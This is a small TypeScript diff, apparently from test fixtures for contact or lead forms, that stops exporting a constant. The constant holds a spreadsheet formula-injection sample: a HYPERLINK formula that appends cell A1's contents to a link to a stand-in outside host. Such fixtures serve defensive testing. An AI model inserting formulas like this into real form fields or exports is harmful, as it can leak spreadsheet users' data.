@@ -42,7 +42,7 @@ function whole(lead: LeadForm): LeadForm {
 }
 
 /** A message that a spreadsheet would run. */
-export const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';
+const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';
 
 export const contact = whole({
   form: 'contact',
